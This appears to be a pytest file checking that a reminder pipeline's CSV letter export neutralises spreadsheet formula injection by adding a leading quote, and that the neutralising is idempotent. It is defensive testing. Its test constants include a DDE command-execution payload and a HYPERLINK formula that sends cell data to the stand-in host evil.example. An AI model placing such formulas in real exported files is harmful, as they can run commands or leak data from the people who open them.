"""The print house's letters CSV is inert in a spreadsheet (OWASP CSV injection): a cell that
starts with = + - @ TAB or CR gets a leading ' ; the file stays idempotent."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from pipelines.reminders.channels import LETTER_COLUMNS, LetterBatchChannel, OutgoingReminder
from pipelines.spreadsheet import CSV_FORMULA_PREFIXES, csv_safe_cell

DAY = dt.date(2026, 3, 2)
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _letter(rid: str, to: str, subject: str = "提醒函", text: str = "正文") -> OutgoingReminder:
    return OutgoingReminder(rid, "letter", to, "zh-CN", subject, text, DAY)


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def _is_formula(cell: str) -> bool:
    return cell.startswith(CSV_FORMULA_PREFIXES)


def test_hostile_subscriber_refs_come_out_inert(tmp_path: Path) -> None:
    channel = LetterBatchChannel(tmp_path, DAY)
    outcome = channel.send_batch([_letter("let-0001", CALC), _letter("let-0002", LINK)])
    assert outcome.failed == () and len(outcome.sent) == 2
    rows = _rows(channel.path)
    assert [r["to"] for r in rows] == ["'" + CALC, "'" + LINK]
    assert not any(_is_formula(cell) for row in rows for cell in row.values())
    # Nothing else of the value is changed: one leading ' off gives it back as written.
    assert [r["to"][1:] for r in rows] == [CALC, LINK]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_prefix_in_every_free_text_column(prefix: str, tmp_path: Path) -> None:
    value = f"{prefix}1+1"
    channel = LetterBatchChannel(tmp_path, DAY)
    channel.send_batch(
        [OutgoingReminder("let-0001", "letter", value, value, value, value + "\nsecond line", DAY)]
    )
    (row,) = _rows(channel.path)
    assert list(row) == list(LETTER_COLUMNS)
    assert row["reminder_id"] == "let-0001"
    assert row["to"] == row["language"] == row["subject"] == "'" + value
    assert row["text"] == "'" + value + "\nsecond line"


def test_an_e164_number_is_text_not_a_formula(tmp_path: Path) -> None:
    channel = LetterBatchChannel(tmp_path, DAY)
    channel.send_batch([_letter("let-0001", "+8613800000001")])
    (row,) = _rows(channel.path)
    assert row["to"] == "'+8613800000001"  # a spreadsheet shows it as written, + kept


def test_ordinary_cells_are_unchanged() -> None:
    for value in ("SUB000001", "北京市 朝阳区", "'=already neutral", "a=b", "", "1-2"):
        assert csv_safe_cell(value) == value


def test_neutralising_is_idempotent_so_resending_keeps_the_bytes(tmp_path: Path) -> None:
    reminders = [_letter("let-0002", LINK), _letter("let-0001", CALC, subject="-", text="@x")]
    channel = LetterBatchChannel(tmp_path, DAY)
    channel.send_batch(reminders)
    once = channel.path.read_bytes()
    channel.send_batch(reminders)  # the day's file is read back and rewritten
    channel.send_batch([reminders[1]])
    assert channel.path.read_bytes() == once
    assert csv_safe_cell(csv_safe_cell(CALC)) == csv_safe_cell(CALC)
